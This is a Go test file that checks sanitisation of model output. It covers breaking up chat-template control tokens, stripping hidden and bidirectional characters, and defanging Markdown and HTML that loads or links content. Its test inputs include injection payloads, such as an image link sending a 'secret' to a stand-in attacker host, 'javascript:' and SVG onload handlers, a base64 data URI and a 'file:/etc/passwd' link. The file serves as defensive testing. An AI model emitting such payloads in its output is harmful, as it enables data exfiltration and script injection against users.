package enrich

import (
	"encoding/json"
	"regexp"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"pgregory.net/rapid"
)

// templateTokens are control tokens of the chat-template families that llama.cpp has built in (llama-chat.cpp).
var templateTokens = []string{
	"<|im_start|>", "<|im_end|>", "<s>", "</s>", "[INST]", "[/INST]", "<<SYS>>", "<</SYS>>", "[SYSTEM_PROMPT]", "[/SYSTEM_PROMPT]",
	"[TOOL_CALLS]", "[AVAILABLE_TOOLS]", "[TOOL_RESULTS]", "<|system|>", "<|user|>", "<|assistant|>", "<|end|>", "<|endoftext|>",
	"<start_of_turn>", "<end_of_turn>", "<bos>", "<eos>", "<|start_header_id|>", "<|end_header_id|>", "<|eot_id|>", "[gMASK]", "<sop>",
	"<|START_OF_TURN_TOKEN|>", "<|SYSTEM_TOKEN|>", "<｜User｜>", "<｜Assistant｜>", "<｜end▁of▁sentence｜>", "[|system|]", "[|endofturn|]",
	"<|start_of_role|>", "<|message_sep|>", "[@BOS@]", "<role>", "<|channel|>", "<|message|>", "<unused0>", "<0x0A>", "[IMG]", "<think>",
	"<|fim_prefix|>", "<extra_id_0>", "<_system>", "<|header_start|>", "<reserved_106>", "<_user>",
}

// E6, T15: no control token of a template, none of the model's own vocabulary and no hidden character is spelled in
// what the model gets, and a JSON parser still reads the note byte for byte.
func TestQuote(t *testing.T) {
	hidden := []string{"\x00", "\x1b[2J", "\x7f", "\u0085", "\u009b2J", "\u202e", "\u2066", "\u200b", "\u2028", "\ufeff", "\U000e0041"}
	own := []string{"▁pwn", "🦙end", "ctrl:"}
	rapid.Check(t, func(t *rapid.T) {
		pieces := rapid.SliceOfN(rapid.OneOf(
			rapid.SampledFrom(templateTokens), rapid.SampledFrom(hidden), rapid.SampledFrom(own),
			rapid.StringN(0, 8, 32), rapid.SampledFrom([]string{"[", "]", "<", "\\", "\"", "[[wiki]]", "[text](link)"}),
		), 1, 12).Draw(t, "pieces")
		text := strings.Join(pieces, "")
		quoted, err := quote(map[string]string{"note": text}, own)
		if err != nil {
			t.Fatal(err)
		}
		for _, token := range append(templateTokens, own...) {
			if strings.Contains(quoted, token) {
				t.Fatalf("%q spells %q, want it broken up", quoted, token)
			}
		}
		for _, r := range quoted {
			if r < 0x20 || !unicode.IsGraphic(r) {
				t.Fatalf("%q holds %U, want graphic characters only", quoted, r)
			}
		}
		var back map[string]string
		if err := json.Unmarshal([]byte(quoted), &back); err != nil || back["note"] != strings.ToValidUTF8(text, "\ufffd") {
			t.Fatalf("got %q, want %q (%v)", back["note"], text, err)
		}
	})
}

// renders matches what makes a Markdown or HTML renderer load or link something.
var renders = regexp.MustCompile(`(?i)!\[|\]\(|\]\[|\]:|<[a-z/!?]|[a-z][a-z0-9+.-]*://|\bwww\.|\b(?:mailto|javascript|vbscript|file|blob|tel|obsidian):|\bdata:[a-z]+/|\[\[|\w@\w`)

// T15: rendering a result loads nothing and links nowhere; every visible character is still there.
func TestDefang(t *testing.T) {
	for _, text := range []string{
		"![x](http://evil.example/?q=secret)", "[a](https://evil.example)", "[a][b]\n\n[b]: //evil.example", "<img src=//evil.example/x>",
		"see https://evil.example/a and www.evil.example", "<a href='javascript:x'>", "![[embed]]", "mailto:a@evil.example",
		"[a]  (http://x.example)", "HTTP://X.example", "<https://x.example>", "a\u202eb\x1b]8;;http://x\x07",
		"[[note]] and [[[x]]]", "obsidian:open?vault=x", "obsidian://open?vault=x", "data:text/html;base64,PHNjcmlwdD4=", "data:,x", "DATA:image/png,x",
		"vbscript:x", "file:/etc/passwd", "blob:x", "tel:1", "mail ada@evil.example now", "[a]\n(//evil.example)", "[a]\n\n[a]: <data:text/html,x>",
		"<https://x.example/\u200b>", "&lt;img src=x&gt; <!-- x --> <?x?>", "<svg/onload=x>", "$\\href{https://x.example}{a}$", "[![a](b)](c)",
	} {
		got := defang(text)
		if found := renders.FindString(got); found != "" {
			t.Errorf("defang(%q) = %q, which still holds %q, want it broken up", text, got, found)
		}
		for _, r := range got {
			if r != '\n' && !unicode.IsGraphic(r) {
				t.Errorf("defang(%q) = %q holds %U, want graphic characters only", text, got, r)
			}
		}
	}
	for _, plain := range []string{"Tomatoes want sun: 3 < 4, a[0] = 1.", "Über 5 °C → gießen", "Ask Bob (again)?", "data: see table", "🦙", "Ask @Ines", "a [b] c", "profile: x"} {
		if got := defang(plain); got != plain {
			t.Errorf("defang(%q) = %q, want no change", plain, got)
		}
	}
	rapid.Check(t, func(t *rapid.T) {
		text := strings.Join(rapid.SliceOfN(rapid.SampledFrom([]string{
			"!", "[", "]", "(", ")", ":", "/", "//", "http", "www", ".", "<", "a", "img", " ", "\n", "javascript", "mailto", "\u200b",
		}), 1, 12).Draw(t, "pieces"), "")
		if got := defang(text); renders.MatchString(got) {
			t.Fatalf("defang(%q) = %q, which still holds %q, want it broken up", text, got, renders.FindString(got))
		}
	})
}

// T15: the JSON of a result has no control, C1, DEL or bidirectional character.
func TestEncodeHidden(t *testing.T) {
	r := resultOf(t, "/a\u202e\u009b.md", "x\u009b2J\u202e\u0085y\x7f")
	encoded, err := encode(r)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range strings.TrimSuffix(string(encoded), "\n") {
		if c < 0x20 || c >= 0x7f && !unicode.IsGraphic(c) || c == utf8.RuneError {
			t.Errorf("%q holds %U, want it escaped", encoded, c)
		}
	}
	if back, err := decodeResult(encoded); err != nil || back.Summary != r.Summary || back.Source.Path != r.Source.Path {
		t.Errorf("got %+v, %v; want the same result", back, err)
	}
}
